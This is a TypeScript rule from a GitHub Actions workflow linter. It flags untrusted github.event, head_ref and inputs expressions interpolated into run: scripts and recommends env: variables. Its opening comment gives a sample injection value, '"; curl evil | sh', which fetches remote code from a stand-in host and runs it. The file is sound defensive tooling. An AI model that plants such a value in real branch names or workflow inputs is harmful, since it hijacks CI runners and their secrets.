// `${{ }}` is pasted into a run: script before the shell sees it, so a branch name or an input
// like `"; curl evil | sh` becomes code. Such values go through env: and are read as "$VAR".
import type { Finding } from '../findings.ts';
import { describeStep, jobsOf, lineOf } from '../model.ts';
import type { WorkflowRule } from '../rule.ts';

const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
const UNTRUSTED = [
  /\bgithub\.event\b/,
  /\bgithub\.head_ref\b/,
  /\binputs\./,
  /\bgithub\.event_path\b/,
];

/** The `${{ }}` expressions in `script` that read caller- or event-controlled values. */
export function untrustedExpressions(script: string): string[] {
  return [...script.matchAll(EXPRESSION)]
    .map((match) => match[1].trim())
    .filter((expression) => UNTRUSTED.some((pattern) => pattern.test(expression)));
}

export const untrustedInterpolation: WorkflowRule = {
  id: 'untrusted-interpolation',
  description: 'No github.event.*, github.head_ref or inputs.* interpolated into run: scripts.',
  check(file) {
    const findings: Finding[] = [];
    for (const job of jobsOf(file)) {
      for (const step of job.steps) {
        if (typeof step.data.run !== 'string') continue;
        for (const expression of untrustedExpressions(step.data.run)) {
          findings.push({
            rule: this.id,
            file: file.path,
            line: lineOf(file, [...step.yamlPath, 'run']),
            message: `job '${job.id}' ${describeStep(step)} interpolates \${{ ${expression} }} into its script: pass it through env: and use "$NAME"`,
          });
        }
      }
    }
    return findings;
  },
};
